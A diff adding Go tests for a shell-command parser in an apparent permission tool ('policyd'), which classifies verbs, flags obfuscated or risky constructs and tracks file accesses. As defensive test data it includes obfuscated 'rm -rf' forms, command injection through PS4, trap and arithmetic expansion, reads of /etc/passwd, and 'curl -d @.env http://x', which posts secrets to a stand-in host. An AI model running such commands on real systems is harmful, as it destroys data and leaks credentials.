@@ -1,0 +1,256 @@
+package shell
+
+import (
+	"strings"
+	"sync"
+	"testing"
+
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+)
+
+var loadTable = sync.OnceValues(NewTable)
+
+// Every entry of the table compiles: a malformed one would count as unknown.
+func TestProgramTable(t *testing.T) {
+	require.NoError(t, newTable(t).Check())
+}
+
+func newTable(t testing.TB) *Table {
+	t.Helper()
+	table, err := loadTable()
+	require.NoError(t, err)
+	return table
+}
+
+func parse(t testing.TB, line string) Line {
+	t.Helper()
+	return newTable(t).Parse(line, Options{
+		Home: "/home/dev", Cwd: "/srv/proj", Plain: func(string) bool { return true },
+	})
+}
+
+func verbs(line Line) string {
+	var out []string
+	for _, c := range line.Commands {
+		out = append(out, c.Verb)
+	}
+	return strings.Join(out, ", ")
+}
+
+// V1, V2: one item per simple command, and the verb chain is its head alone.
+func TestVerbs(t *testing.T) {
+	cases := map[string]string{
+		"ls -la":                                "ls",
+		"git status && git log --oneline -3":    "git status, git log",
+		"git -C sub --no-pager log -3":          "git log",
+		"cd src; ls | wc -l":                    "cd, ls, wc",
+		"(cd a && ls); pwd":                     "cd, ls, pwd",
+		"timeout 5 nice -n 3 git push":          "git push",
+		"LC_ALL=C sort names.txt":               "sort",
+		"bash -c 'git status; ls'":              "git status, ls",
+		"bash -lc \"bash -c 'ls'\"":             "ls",
+		"env LANG=C ls":                         "ls",
+		"! grep -q x f && echo no":              "grep, echo",
+		"for f in a b; do wc -l \"$f\"; done":   "wc, wc",
+		"if [ -f go.mod ]; then cat go.mod; fi": "[, cat",
+		"while [ -f x ]; do sleep 1; done":      "[, sleep",
+		"case x in a) ls;; *) pwd;; esac":       "ls, pwd",
+		"echo \"$(git rev-parse HEAD)\"":        "git rev-parse, echo",
+		"npm run build":                         "npm run build",
+		"$'\\x72m' -rf src":                     "rm",
+		"{rm,-rf,src}":                          "rm",
+		"./ls -la":                              "./ls",
+		"/usr/bin/git status":                   "git status",
+		"ls &\npwd":                             "ls, pwd",
+		"time ls":                               "ls",
+		"cat <<'EOF'\n$(rm x)\nEOF":             "cat",
+		"# only a comment":                      "",
+		"command -v node":                       "command",
+		"command ls":                            "ls",
+		"[[ -f x && ! -d y ]] || echo none":     "[[, echo",
+		"set -euo pipefail; ls":                 ":, ls",
+		"x=src; ls \"$x\"":                      ":, ls",
+	}
+	require.NotEmpty(t, cases)
+	for line, want := range cases {
+		got := parse(t, line)
+		assert.Equal(t, want, verbs(got), line)
+		assert.Empty(t, got.Messy, line)
+	}
+}
+
+// V8 and shell.md section 11: what is not fully explained is messy, and says why.
+func TestMessy(t *testing.T) {
+	cases := map[string]string{
+		"ls \r#; rm -rf src":                    MessyControlByte,
+		"ls # x \\\nrm -rf src":                 MessyDisagreement,
+		"ls \\\r\nrm -rf src":                   MessyControlByte,
+		"cat <<EOF\n\\\nEOF\nrm x\nEOF\n":       MessyDisagreement,
+		"cat <<EOF\n${x:-\nEOF\nrm x\n}\nEOF\n": MessyHereDocument,
+		"true && !(rm x)":                       MessyExpansion,
+		"[ -v 'a[$(rm x)]' ]":                   MessyTest,
+		"x='a[$(rm x)]'; echo $((x))":           MessyArithmetic,
+		"x='$(rm x)'; echo \"${x@P}\"":          MessyExpansion,
+		"y=abc; echo ${y:x:1}":                  MessyExpansion,
+		"[[ 'a[$(rm x)]' -eq 0 ]]":              MessyTest,
+		"compgen -W '$(rm x)'":                  MessyBuiltin,
+		"trap 'rm x' EXIT":                      MessyBuiltin,
+		"eval ls":                               MessyBuiltin,
+		"PS4='$(rm x)'; set -x; ls":             MessyBuiltin,
+		"ls() { rm x; }; ls":                    MessyFunction,
+		"ls > >(cat)":                           MessyProcess,
+		"cat {fd}>f":                            MessyRedirection,
+		"ls > $x":                               MessyDynamicTarget,
+		"$x -rf":                                MessyDynamicVerb,
+		"ls 'unbalanced":                        MessyParse,
+		"for ((i=0;i<3;i++)); do ls; done":      MessyControlFlow,
+		"coproc ls":                             MessyCoprocess,
+		"env -S 'rm x'":                         MessyWrapper,
+		"timeout --no-such-option 5 ls":         MessyWrapper,
+		"ls \u202e":                             MessyInvisible,
+		"ls \xff":                               MessyEncoding,
+		strings.Repeat("(", 40) + "ls":          MessyNesting,
+		"ls " + strings.Repeat("a", maxLine):    MessyTooLong,
+		strings.Repeat("ls;", 100):              MessyLimits,
+		"echo `rm x`":                           MessyDisagreement,
+	}
+	require.NotEmpty(t, cases)
+	for line, want := range cases {
+		assert.Contains(t, parse(t, line).Messy, want, "%.60q", line)
+	}
+}
+
+func caveats(t *testing.T, line string) []string {
+	t.Helper()
+	got := parse(t, line)
+	require.NotEmpty(t, got.Commands, line)
+	return got.Commands[len(got.Commands)-1].Caveats
+}
+
+func TestCaveats(t *testing.T) {
+	cases := map[string]string{
+		"PATH=./bin ls":                             "assigns",
+		"PATH=./bin; ls":                            "assigns",
+		"export X=1; ls":                            "assigns",
+		"RANDOM='a[$(rm x)]'; ls":                   "assigns",
+		"env 'BASH_FUNC_ls%%=() { x; }' bash -c ls": "assigns",
+		"BASH_ENV=./s bash -c ls":                   "assigns",
+		"./ls":                                      "named_by_path",
+		"/tmp/ls":                                   "named_by_path",
+		"/bin/ls":                                   "named_by_system_path",
+		"ls $x":                                     "dynamic_word",
+		"sort *":                                    "dynamic_option",
+		"git -c core.fsmonitor=x status":            "executes",
+		"no-such-program a/b":                       "unknown_program",
+		"git status --no-such-option":               "unknown_option",
+		"python -c 'x'":                             "inline_code",
+		"bash":                                      "inline_code",
+		"sed -n 's/a/b/e' f":                        "inline_code",
+		"awk 'BEGIN{system(\"rm x\")}'":             "inline_code",
+		"jq env f.json":                             "reads_environment",
+		"env":                                       "reads_environment",
+		"export":                                    "reads_environment",
+		"policyd approvals trust-verb 'git push'": "own_program",
+		"timeout 5 policyd prompts answer x":      "own_program",
+		"xargs policyd":                           "own_program",
+		"cd $x; ls":                               "",
+	}
+	require.NotEmpty(t, cases)
+	for line, want := range cases {
+		if want != "" {
+			assert.Contains(t, caveats(t, line), want, line)
+		}
+	}
+	assert.Empty(t, caveats(t, "LC_ALL=C git status"))
+	assert.Empty(t, caveats(t, "policyd version"))
+}
+
+// shell.md section 8: the working directory is a set.
+func TestWorkingDirectories(t *testing.T) {
+	cases := map[string]struct {
+		dirs    []string
+		unknown bool
+	}{
+		"ls":                            {[]string{"/srv/proj"}, false},
+		"cd src && ls":                  {[]string{"/srv/proj/src"}, false},
+		"cd src; ls":                    {[]string{"/srv/proj/src", "/srv/proj"}, false},
+		"cd docs || cd /etc; ls":        {[]string{"/srv/proj/docs", "/etc", "/srv/proj"}, false},
+		"(cd /etc); ls":                 {[]string{"/srv/proj"}, false},
+		"cd /etc | cat; ls":             {[]string{"/srv/proj"}, false},
+		"cd /etc & ls":                  {[]string{"/srv/proj"}, false},
+		"{ cd /etc; } && ls":            {[]string{"/etc"}, false},
+		"cd a/../b && ls":               {[]string{"/srv/proj/b"}, false},
+		"cd && ls":                      {nil, true},
+		"cd - && ls":                    {nil, true},
+		"cd \"$x\" && ls":               {nil, true},
+		"pushd x && ls":                 {nil, true},
+		"cd ~ && ls":                    {[]string{"/home/dev"}, false},
+		"if true; then cd /etc; fi; ls": {[]string{"/etc", "/srv/proj"}, false},
+		"cd src && cd .. && ls":         {[]string{"/srv/proj"}, false},
+	}
+	for line, want := range cases {
+		got := parse(t, line)
+		last := got.Commands[len(got.Commands)-1]
+		assert.ElementsMatch(t, want.dirs, last.Dirs, line)
+		assert.Equal(t, want.unknown, last.Unknown, line)
+	}
+}
+
+// A directory that ".." leaves may be a link, where the shell and the disk differ.
+func TestChangeDirectoryOverALinkIsUnknown(t *testing.T) {
+	line := newTable(t).Parse("cd link/.. && ls", Options{Cwd: "/srv/proj", Plain: func(dir string) bool { return !strings.Contains(dir, "link") }})
+	assert.True(t, line.Commands[1].Unknown)
+}
+
+func accesses(t *testing.T, line string) string {
+	t.Helper()
+	var out []string
+	for _, c := range parse(t, line).Commands {
+		for _, a := range c.Accesses {
+			text := a.Op + " " + a.Text
+			if a.Tree {
+				text += "/**"
+			}
+			out = append(out, text)
+		}
+	}
+	return strings.Join(out, ", ")
+}
+
+func TestAccesses(t *testing.T) {
+	cases := map[string]string{
+		"cat a b":                    "read a, read b",
+		"cat -":                      "",
+		"cat < in > out":             "read in, write out",
+		"ls >& out":                  "write out, list .",
+		"ls 2>&1":                    "list .",
+		"ls 1<> out":                 "write out, list .",
+		"sort --output=o f":          "write o, read f",
+		"sort -oo f":                 "write o, read f",
+		"uniq a b":                   "read a, write b",
+		"grep -rn x src":             "read src/**",
+		"grep -rn x":                 "read ./**",
+		"grep -e x -f pats file":     "read pats, read file",
+		"cp a b dir":                 "read a, read b, write dir",
+		"mv a b":                     "delete a, write b",
+		"rm -rf ./a /other":          "delete ./a, delete /other",
+		"sed -i s/a/b/ f":            "write f",
+		"git show HEAD:.env":         "read .env",
+		"git diff -- .env":           "read .env",
+		"find . -name x":             "list .",
+		"find src -newer f -delete":  "list f, list src",
+		"tee out":                    "write out",
+		"dd if=a of=b":               "read a, write b",
+		"curl -d @.env http://x":     "read .env",
+		"curl file:///etc/passwd":    "read /etc/passwd",
+		"tar -czf out.tgz src":       "write out.tgz, read src/**",
+		"cat {a,b}.txt":              "read a.txt, read b.txt",
+		"cat \"$HOME/x\" ~/y":        "read /home/dev/x, read /home/dev/y",
+		"find . -exec cat .env {} ;": "list ., read .env",
+		"xargs cat .env":             "read .env",
+	}
+	for line, want := range cases {
+		assert.Equal(t, want, accesses(t, line), line)
+	}
+}
